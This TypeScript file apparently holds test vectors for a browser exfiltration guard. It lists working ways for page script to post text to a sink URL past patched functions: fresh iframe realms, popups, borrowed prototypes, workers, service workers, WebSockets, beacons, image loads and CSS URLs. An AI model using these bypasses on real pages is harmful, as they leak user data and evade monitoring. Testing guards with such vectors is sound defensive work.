import { inQuery } from "./vector.ts";
import type { Vector } from "./vector.ts";

/** Realms in which a page can look for functions that nobody guards. */
export const REALMS: readonly Vector[] = [
  {
    name: "frame-about-blank",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      return frame.contentWindow?.fetch(url, { method: "POST", body });
    },
  },
  {
    name: "frame-prototype",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const realm = frame.contentWindow as (Window & typeof globalThis) | null;
      const xhr = new XMLHttpRequest();
      xhr.open("POST", url);
      realm?.XMLHttpRequest.prototype.send.call(xhr, body);
    },
  },
  {
    name: "frame-srcdoc",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      frame.srcdoc = `<script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
      document.body.append(frame);
    },
  },
  {
    name: "frame-blob",
    run: (body, url) => {
      const code = `<script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
      const frame = document.createElement("iframe");
      frame.src = URL.createObjectURL(
        new Blob([`<meta charset=utf-8>${code}`], { type: "text/html" }),
      );
      document.body.append(frame);
    },
  },
  {
    name: "frame-data",
    run: (body, url) => {
      const code = `<meta charset=utf-8><script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
      const frame = document.createElement("iframe");
      frame.src = `data:text/html,${encodeURIComponent(code)}`;
      document.body.append(frame);
    },
  },
  {
    name: "frame-sandboxed",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.srcdoc = `<script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
      document.body.append(frame);
    },
  },
  {
    name: "popup",
    run: (body, url) => window.open("about:blank")?.fetch(url, { method: "POST", body }),
  },
  {
    name: "popup-loading",
    run: (body, url) => window.open("/")?.fetch(url, { method: "POST", body, keepalive: true }),
  },
  {
    name: "frame-loading",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      frame.src = "/";
      document.body.append(frame);
      return frame.contentWindow?.fetch(url, { method: "POST", body, keepalive: true });
    },
  },
  {
    name: "frame-loading-document",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      frame.src = "/";
      document.body.append(frame);
      frame.contentDocument?.defaultView?.navigator.sendBeacon(url, body);
    },
  },
  {
    name: "frame-loading-image",
    run: (text, url) => {
      const frame = document.createElement("iframe");
      // On a busy machine a page that is there at once takes this one away before its picture is judged.
      frame.src = "/late";
      document.body.append(frame);
      const realm = frame.contentWindow as (Window & typeof globalThis) | null;
      if (realm !== null) new realm.Image().src = `${url}?q=${encodeURIComponent(text)}`;
    },
    arrives: inQuery,
  },
  {
    name: "frame-loaded",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      frame.src = "/";
      document.body.append(frame);
      const early = frame.contentWindow;
      frame.addEventListener("load", () => {
        void early?.fetch(url, { method: "POST", body });
      });
    },
  },
  {
    name: "frame-kept-function",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      frame.src = "/";
      document.body.append(frame);
      const realm = frame.contentWindow;
      const kept: unknown = realm === null ? undefined : Reflect.get(realm, "fetch");
      frame.addEventListener("load", () => {
        if (typeof kept === "function") Reflect.apply(kept, realm, [url, { method: "POST", body }]);
      });
    },
  },
  {
    name: "frame-nested",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      // Firefox gives up what a frame sent that is removed with the page around it, if that is still held.
      frame.src = "/late";
      document.body.append(frame);
      const early = frame.contentDocument;
      const inner = early?.createElement("iframe");
      if (early === null || inner === undefined) return;
      inner.src = "/";
      early.documentElement.append(inner);
      void inner.contentWindow?.fetch(url, { method: "POST", body, keepalive: true });
    },
  },
  {
    name: "frame-scriptless",
    run: (body, url) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-same-origin");
      frame.src = "/";
      frame.addEventListener("load", () => {
        void frame.contentWindow?.fetch(url, { method: "POST", body });
      });
      document.body.append(frame);
    },
  },
];

/** The code of a worker that posts a text. */
const POSTING = `onmessage = ({ data: [url, body] }) => fetch(url, { method: "POST", body });`;

/** What stands at the addresses that the vectors of workers load. */
export const WORKER_SCRIPTS: Readonly<Record<string, string>> = {
  "/worker.js": POSTING,
  "/shared.js": `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data: [url, body] }) => fetch(url, body ? { method: "POST", body } : {}); };`,
  "/shared-socket.js": `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data: [url] }) => new WebSocket(url); };`,
  "/service.js": `onmessage = ({ data: [url, body] }) => fetch(url, body ? { method: "POST", body } : {});
addEventListener("install", () => skipWaiting()); addEventListener("activate", (event) => event.waitUntil(clients.claim()));`,
};

/** Ways out through workers of the page. */
export const WORKERS: readonly Vector[] = [
  {
    name: "worker-classic",
    run: (text, url) => new Worker("/worker.js").postMessage([url, text], []),
  },
  {
    name: "worker-blob",
    run: (text, url) => {
      const code = `onmessage = ({ data: [url, body] }) => fetch(url, { method: "POST", body });`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.postMessage([url, text], []);
    },
  },
  {
    name: "worker-revoked",
    run: (text, url) => {
      const code = `onmessage = ({ data: [url, body] }) => fetch(url, { method: "POST", body });`;
      const address = URL.createObjectURL(new Blob([code]));
      const worker = new Worker(address);
      URL.revokeObjectURL(address);
      worker.postMessage([url, text], []);
    },
  },
  {
    name: "worker-module",
    run: (text, url) => new Worker("/worker.js", { type: "module" }).postMessage([url, text], []),
  },
  {
    name: "worker-relative",
    run: (text, url) => {
      const path = new URL(url).pathname;
      new Worker("/worker.js").postMessage([path, text], []);
    },
  },
  {
    name: "worker-xhr",
    run: (text, url) => {
      const code = `onmessage = ({ data: [url, body] }) => { const x = new XMLHttpRequest(); x.open("POST", url); x.send(body); };`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.postMessage([url, text], []);
    },
  },
  {
    name: "worker-websocket",
    run: (text, url) => {
      const code = `onmessage = ({ data: [url, body] }) => { const s = new WebSocket(url); s.onopen = () => s.send(body); };`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.postMessage([url.replace("https", "wss").replace("/sink/", "/ws/"), text], []);
    },
  },
];

/** A worker's sockets, to whose addresses guards in workers let no query. */
export const WORKER_SOCKETS: readonly Vector[] = [
  {
    name: "worker-socket",
    run: (text, url) => {
      const code = `onmessage = ({ data: [url, body] }) => { new WebSocket(url + "?q=" + encodeURIComponent(body)); };`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.postMessage([url.replace("https", "wss").replace("/sink/", "/ws/"), text], []);
    },
    arrives: inQuery,
  },
];

/** Workers that stand beside all pages of a site. */
export const SHARED_WORKERS: readonly Vector[] = [
  {
    name: "shared-worker",
    run: (text, url) => new SharedWorker("/shared.js").port.postMessage([url, text], []),
  },
  {
    name: "service-worker",
    run: async (text, url) => {
      await navigator.serviceWorker.register("/service.js");
      const { active } = await navigator.serviceWorker.ready;
      active?.postMessage([url, text], []);
    },
  },
];

/** The addresses that those ask for. */
export const SHARED_QUERIES: readonly Vector[] = [
  {
    name: "shared-worker-query",
    run: (text, url) => {
      const address = `${url}?q=${encodeURIComponent(text)}`;
      new SharedWorker("/shared.js").port.postMessage([address], []);
    },
    arrives: inQuery,
  },
  {
    name: "shared-worker-socket",
    run: (text, url) => {
      const socket = url.replace("https", "wss").replace("/sink/", "/ws/");
      const address = `${socket}?q=${encodeURIComponent(text)}`;
      new SharedWorker("/shared-socket.js").port.postMessage([address], []);
    },
    arrives: inQuery,
  },
  {
    name: "service-worker-query",
    run: async (text, url) => {
      await navigator.serviceWorker.register("/service.js");
      const { active } = await navigator.serviceWorker.ready;
      active?.postMessage([`${url}?q=${encodeURIComponent(text)}`], []);
    },
    arrives: inQuery,
  },
];

/** Addresses that no script asks for: markup and styles name them, and the browser fetches them by itself. */
export const MARKUP: readonly Vector[] = [
  {
    name: "inner-html",
    run: (text, url) => {
      const box = document.createElement("div");
      box.innerHTML = `<img src="${url}?q=${encodeURIComponent(text)}">`;
    },
    arrives: inQuery,
  },
  {
    name: "css-url",
    run: (text, url) => {
      document.body.style.backgroundImage = `url("${url}?q=${encodeURIComponent(text)}")`;
    },
    arrives: inQuery,
  },
];
